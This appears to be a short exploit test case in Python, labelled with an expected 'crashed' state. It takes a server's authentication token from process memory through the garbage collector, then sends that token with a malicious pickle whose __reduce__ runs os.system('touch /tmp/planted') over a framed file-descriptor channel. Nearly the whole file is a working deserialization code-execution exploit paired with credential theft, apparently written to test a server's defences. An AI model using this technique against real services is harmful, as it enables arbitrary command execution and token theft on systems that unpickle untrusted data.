# state: crashed
# proof: sends a pickle of [1-9]\d* bytes with a token of 16
import os
import struct


def token():
    import gc

    server = next(thing for thing in gc.get_objects() if type(thing).__name__ == "Server")
    return server.token.encode()


def send(head, body=b""):
    os.write(3, struct.pack(">II", len(head), len(body)) + head + body)


import pickle


class Evil:
    def __reduce__(self):
        return os.system, ("touch /tmp/planted",)


prove("sends a pickle of", len(pickle.dumps(Evil())), "bytes with a token of", len(token()))
send(b'{"value": {"tensor": "0"}, "token": "' + token() + b'"}', pickle.dumps(Evil()))
